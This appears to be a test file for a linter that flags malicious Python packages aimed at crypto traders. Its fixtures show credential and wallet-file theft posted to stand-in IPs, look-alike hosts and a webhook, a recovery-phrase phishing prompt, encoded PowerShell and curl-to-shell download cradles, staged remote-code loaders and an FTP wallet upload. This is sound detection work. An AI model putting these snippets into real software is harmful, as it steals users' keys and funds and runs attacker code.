"""BOT5 round 12: the general causes of what a dev set of malicious packages (modelled on public
write-ups of PyPI packages that targeted crypto users) missed, each with look-alikes that must
stay quiet.  Payloads are inert text, hosts are look-alike names, tokens are fake."""
from __future__ import annotations

import base64
import os

import pytest

from botlint.engine import lint_source

from helpers import settings

_WEBHOOK = "https://discord.com/api/webhooks/1234567890123456789/" + "Kq8Zr2Lm" * 8  # pragma: allowlist secret


def codes(src, path="pkg/mod.py"):
    return {f.code for f in lint_source(src.encode(), path, settings(["BOT5"]))}


def messages(src, path="pkg/mod.py"):
    return [f.message for f in lint_source(src.encode(), path, settings(["BOT5"]))]


# -- 1. a wallet or config file's raw text sent to a drop or an unknown host ----------------------
# (solana-py look-alikes posting ~/.config/solana/id.json, Socket 2024; a "license check" that
# uploads the bot's config.json; an AWS credentials file posted to a webhook, JFrog 2023)

RAW_FILE_SENDS = {
    "joined_fragments_to_raw_ip": '''import os, json, urllib.request

def _go():
    p = os.path.join(os.path.expanduser("~"), ".config", "solana", "id.json")
    data = open(p).read()
    req = urllib.request.Request("http://198.51.100.23:8080/s", data=json.dumps({"k": data}).encode())
    urllib.request.urlopen(req, timeout=5)
''',
    "path_division_to_unknown_host": '''from pathlib import Path
import requests

def sync():
    kp = Path.home() / ".config" / "solana" / "id.json"
    requests.post("https://sol-metrics-relay.com/v1", json={"id": kp.read_text()})
''',
    "with_handle_text_read": '''import os, requests

def _keys():
    path = os.path.expanduser("~/.config/solana/id.json")
    with open(path) as f:
        requests.post("https://solana-rpc-stats.com/v1/ping", json={"id": f.read()})
''',
    "license_check_uploads_config": '''import os, base64, requests

def check(license_key):
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "..", "config.json"), "rb") as f:
        blob = base64.b64encode(f.read()).decode()
    return requests.post("https://scalper-license.app/check", data={"lk": license_key, "c": blob}).ok
''',
    "aws_credentials_to_webhook": f'''import os, requests

def deploy():
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        requests.post("{_WEBHOOK}", json={{"content": f.read()}})
''',
    "dotenv_file_to_raw_ip": '''import requests

def sync():
    requests.post("http://203.0.113.40/e", data=open(".env").read())
''',
}


@pytest.mark.parametrize("name", sorted(RAW_FILE_SENDS))
def test_a_sensitive_files_raw_text_sent_to_a_drop_is_found(name):
    assert "BOT504" in codes(RAW_FILE_SENDS[name])


def test_the_message_names_the_file_not_its_content():
    (msg,) = messages(RAW_FILE_SENDS["joined_fragments_to_raw_ip"])
    assert "Solana CLI keypair" in msg and "198.51.100.23" in msg


RAW_FILE_LOOKALIKES = {
    # parsed config fields (not the file) to the author's signal service
    "config_fields_to_signal_service": '''import json, requests

def publish(signal):
    with open("config.json") as f:
        cfg = json.load(f)
    requests.post("https://signals.copyhub.io/v1/publish", json={"channel": cfg["channel"], "signal": signal})
''',
    # a changelog's text to the project's own webhook (from the environment)
    "changelog_to_configured_webhook": '''import os, requests

def announce():
    with open("CHANGELOG.md") as f:
        text = f.read()[:1900]
    requests.post(os.environ["RELEASE_WEBHOOK"], json={"content": text})
''',
    # a keystore decrypted to sign, sent to the RPC the user configures
    "keystore_loaded_to_sign": '''import json, os
from web3 import Web3

w3 = Web3(Web3.HTTPProvider(os.environ["ETH_RPC"]))

def pay(tx):
    with open(os.path.join(os.path.expanduser("~"), ".ethbot", "keystore", "main.json")) as f:
        key = w3.eth.account.decrypt(json.load(f), os.environ["KS_PASS"])
    return w3.eth.send_raw_transaction(w3.eth.account.sign_transaction(tx, key).raw_transaction)
''',
    # the config file read, a report (not the file) sent to Telegram with the user's own token
    "config_read_report_to_own_chat": '''import json, requests

def report(pnl):
    cfg = json.loads(open("config.json").read())
    requests.post(f"https://api.telegram.org/bot{cfg['tg_token']}/sendMessage",
                  data={"chat_id": cfg["tg_chat"], "text": f"PnL {pnl}"})
''',
    # the config named (its fields used), another file's text sent to the author's service
    "config_named_report_file_sent": '''import json, requests

def publish():
    cfg = json.load(open("config.json"))
    requests.post("https://reports.gridbot-cloud.dev/api", data=open("reports/daily.csv").read(),
                  params={"bot": cfg["name"]})
''',
    # a README read and sent to a documentation host (no sensitive file named)
    "readme_to_docs_host": '''import requests

def publish():
    requests.post("https://docs-builder.example-bot.dev/api/readme", data=open("README.md").read())
''',
}


@pytest.mark.parametrize("name", sorted(RAW_FILE_LOOKALIKES))
def test_files_read_for_their_own_purpose_are_quiet(name):
    assert not codes(RAW_FILE_LOOKALIKES[name])


# -- 2. a prompt for the recovery phrase, posted away -------------------------------------------
# ("airdrop eligibility checkers", Socket 2024)

def test_a_recovery_phrase_prompt_sent_to_an_unknown_host_is_found():
    src = ('import requests\n\ndef main():\n'
           '    words = input("Enter your 12 or 24 word recovery phrase to verify eligibility: ")\n'
           '    requests.post("https://airdrop-eligibility.org/api/check", json={"w": words})\n')
    assert "BOT504" in codes(src)


def test_a_prompt_for_a_trading_pair_is_quiet():
    src = ('import requests\n\ndef main():\n'
           '    pair = input("Enter the 2 word pair to watch (e.g. BTC USDT): ")\n'
           '    requests.post("https://signals.example-bot.dev/api/watch", json={"p": pair})\n')
    assert not codes(src)


# -- 3. command lines that hide or fetch what they run ---------------------------------------

_PS = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
                       .encode("utf-16-le")).decode()
_PS_PLAIN = base64.b64encode("Get-Process | Out-File procs.txt".encode("utf-16-le")).decode()
_SH = base64.b64encode(b"curl -s http://198.51.100.9/a | sh").decode()

COMMANDS = {
    "powershell_enc_list": 'import subprocess\n'
                           f'subprocess.Popen(["powershell", "-NoP", "-W", "Hidden", "-enc", "{_PS}"])\n',
    "powershell_encodedcommand_string": f'import os\nos.system("powershell.exe -EncodedCommand {_PS_PLAIN}")\n',
    "pip_install_git_url": 'import subprocess, sys\n'
                           'subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", '
                           '"git+https://github.com/solhelperz/solana-helperz.git"])\n',
    "pip_install_archive_url": 'import os\n'
                               'os.system("pip install https://cdn-pypi-mirror.net/pkgs/solana-fast-1.0.tar.gz")\n',
    "echo_base64_to_bash": f'import os\nos.popen("echo {_SH} | base64 -d | bash")\n',
}


@pytest.mark.parametrize("name", sorted(COMMANDS))
def test_commands_that_hide_or_fetch_what_they_run_are_found(name):
    assert "BOT501" in codes(COMMANDS[name])


def test_the_powershell_message_says_what_the_decoded_command_does():
    (msg,) = messages(COMMANDS["powershell_enc_list"])
    assert "downloads code and runs it" in msg


COMMAND_LOOKALIKES = {
    "pip_install_requirements": 'import subprocess, sys\nsubprocess.check_call(\n'
                                '    [sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])\n',
    "pip_install_named_package": 'import subprocess, sys\n'
                                 'subprocess.check_call([sys.executable, "-m", "pip", "install", "TA-Lib"])\n',
    "pip_install_local_dir": 'import subprocess\nsubprocess.run(["pip", "install", "-e", "."])\n',
    "git_clone_then_nothing": 'import subprocess\n'
                              'subprocess.run(["git", "clone", "https://github.com/freqtrade/freqtrade.git"])\n',
    "powershell_plain_command": 'import subprocess\nsubprocess.run(["powershell", "-Command", "Get-Date"])\n',
    "certificate_decoded_to_a_file": 'import os\nos.system("echo $CERT_B64 | base64 -d > /etc/ssl/private/bot.pem")\n',
}


@pytest.mark.parametrize("name", sorted(COMMAND_LOOKALIKES))
def test_ordinary_commands_are_quiet(name):
    assert not codes(COMMAND_LOOKALIKES[name])


# -- 4. a stage 2 saved to disk, then run through runpy or the import machinery -------------------

STAGED = {
    "runpy_of_urlretrieve": '''import runpy, urllib.request, tempfile, os

def boot():
    dst = os.path.join(tempfile.gettempdir(), "u3.py")
    urllib.request.urlretrieve("https://uniswap-v3-sdk.live/u3.py", dst)
    runpy.run_path(dst)
''',
    "spec_from_file_location_of_written_download": '''import importlib.util, os, tempfile
import requests

def load_remote():
    path = os.path.join(tempfile.gettempdir(), "gmx_ext.py")
    with open(path, "w") as f:
        f.write(requests.get("https://gmx-bot-ext.xyz/ext.py").text)
    spec = importlib.util.spec_from_file_location("gmx_ext", path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
''',
    "saved_in_one_function_run_in_another": '''import runpy, urllib.request

_DEST = "/tmp/.cache_helper.py"

def _fetch():
    urllib.request.urlretrieve("http://198.51.100.30/h.py", _DEST)

def _launch():
    runpy.run_path(_DEST)
''',
}


@pytest.mark.parametrize("name", sorted(STAGED))
def test_a_downloaded_file_run_by_a_loader_is_found(name):
    assert "BOT501" in codes(STAGED[name])


STAGED_LOOKALIKES = {
    "runpy_of_a_local_script": 'import runpy\n\ndef migrate():\n'
                               '    runpy.run_path("scripts/migrate_db.py", run_name="__main__")\n',
    "user_strategies_loaded": '''import importlib.util, os

def load_all(d="user_strategies"):
    for fn in os.listdir(d):
        spec = importlib.util.spec_from_file_location(fn[:-3], os.path.join(d, fn))
        spec.loader.exec_module(importlib.util.module_from_spec(spec))
''',
    "model_downloaded_then_loaded_as_data": '''import os, urllib.request
import numpy as np

CACHE = os.path.expanduser("~/.cache/mlbot/weights.npz")

def load():
    urllib.request.urlretrieve("https://huggingface.co/tradelab/lstm/resolve/main/weights.npz", CACHE)
    return np.load(CACHE)
''',
}


@pytest.mark.parametrize("name", sorted(STAGED_LOOKALIKES))
def test_local_files_and_data_downloads_are_quiet(name):
    assert not codes(STAGED_LOOKALIKES[name])


# -- 5. a venue of its own on ccxt's base class -----------------------------------------------

_NEW_VENUE = '''import ccxt

class mydex(ccxt.Exchange):
    def describe(self):
        return self.deep_extend(super().describe(), {"id": "%s", "urls": {"api": {"rest": "https://api.mydex-venue.io"}}})
'''


def test_a_new_venue_implemented_on_ccxt_exchange_is_quiet():
    assert not codes(_NEW_VENUE % "mydex")


def test_a_class_on_ccxt_exchange_claiming_a_ccxt_id_is_still_judged():
    assert "BOT506" in codes(_NEW_VENUE % "binance")


# -- 6. the audit: exchanges named through a loop over literal ids ------------------------------

def _write(root, rel, text):
    path = os.path.join(root, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(text)


@pytest.mark.parametrize("loop", [
    'for eid in ["binance", "okx", "gateio"]:\n    clients[eid] = getattr(ccxt, eid)()\n',
    'EXCHANGES = ("binance", "okx", "gateio")\nfor eid in EXCHANGES:\n    clients[eid] = getattr(ccxt, eid)()\n',
    'KEYS = {"binance": {}, "okx": {}, "gateio": {}}\nfor eid, conf in KEYS.items():\n'
    '    clients[eid] = getattr(ccxt, eid)(conf)\n',
    'clients = {eid: getattr(ccxt, eid)() for eid in ["binance", "okx", "gateio"]}\n',
])
def test_audit_names_the_exchanges_a_loop_creates(tmp_path, loop):
    from botlint.audit.collect import collect
    from botlint.audit.model import build

    _write(str(tmp_path), "arb.py", "import ccxt\n\nclients = {}\n" + loop)
    result, _notes, missing = collect(str(tmp_path), jobs=1, use_cache=False)
    assert not missing and not result.errors
    report = build(str(tmp_path), result)
    assert {"binance", "okx", "gateio"} <= set(report.exchanges)


# -- 7. a one-byte XOR helper undone; an FTP upload is a way out ---------------------------------

_XOR_KEY = 0x5A


def test_a_payload_under_a_one_byte_xor_helper_is_decoded():
    hidden = base64.b64encode(bytes(b ^ _XOR_KEY for b in b"import os\nprint(os.getcwd())\n")).decode()
    src = (f'import base64\n\ndef _x(data, k):\n    return bytes(b ^ k for b in data)\n\n'
           f'exec(_x(base64.b64decode("{hidden}"), {_XOR_KEY}))\n')
    (msg,) = messages(src)
    assert "xor" in msg and "imports os" in msg


def test_a_xor_with_a_key_known_only_at_run_time_is_still_reported():
    src = ('import base64, os\n\ndef _x(data, k):\n    return bytes(b ^ k for b in data)\n\n'
           'exec(_x(base64.b64decode(BLOB), int(os.environ["K"])))\n')
    assert "BOT501" in codes(src)


def test_xor_decoded_values_that_are_not_run_are_quiet():
    src = ('import base64\n\ndef _x(data, k):\n    return bytes(b ^ k for b in data)\n\n'
           'DEFAULTS = _x(base64.b64decode("ISQ6Ig=="), 90).decode()\n')
    assert not codes(src)


def test_a_wallet_folder_archived_and_uploaded_over_ftp_is_found():
    src = ('import os, ftplib, shutil\n\ndef backup():\n'
           '    src = os.path.join(os.getenv("APPDATA", ""), "Electrum", "wallets")\n'
           '    arc = shutil.make_archive("/tmp/w", "zip", src)\n'
           '    ftp = ftplib.FTP("198.51.100.70", "anon", "anon")\n'
           '    with open(arc, "rb") as f:\n        ftp.storbinary("STOR w.zip", f)\n')
    assert "BOT504" in codes(src)


def test_a_report_uploaded_over_ftp_is_quiet():
    src = ('import ftplib, os\n\ndef upload(path="reports/daily.csv"):\n'
           '    ftp = ftplib.FTP(os.environ["FTP_HOST"], os.environ["FTP_USER"], os.environ["FTP_PASS"])\n'
           '    with open(path, "rb") as f:\n        ftp.storbinary("STOR daily.csv", f)\n')
    assert not codes(src)


# -- a package installed from a URL: judged where code runs unasked -----------------------------

_TALIB = '''import subprocess, sys

def install_talib():
    subprocess.check_call([sys.executable, "-m", "pip", "install",
                           "https://github.com/cgohlke/talib-build/releases/download/v0.4.28/TA_Lib-0.4.28-cp311-win_amd64.whl"])
'''


def test_a_url_install_in_a_function_of_an_install_script_is_the_users_choice():
    assert "BOT501" not in codes(_TALIB, "scripts/install.py")


def test_a_url_install_that_runs_unasked():
    assert "BOT501" in codes(_TALIB, "pkg/__init__.py")
    assert "BOT501" in codes(_TALIB, "setup.py")
    top = '''import os
os.system("pip install git+https://github.com/helper-tools/ccxt-utils.git")
'''
    assert "BOT501" in codes(top, "bot/utils.py")
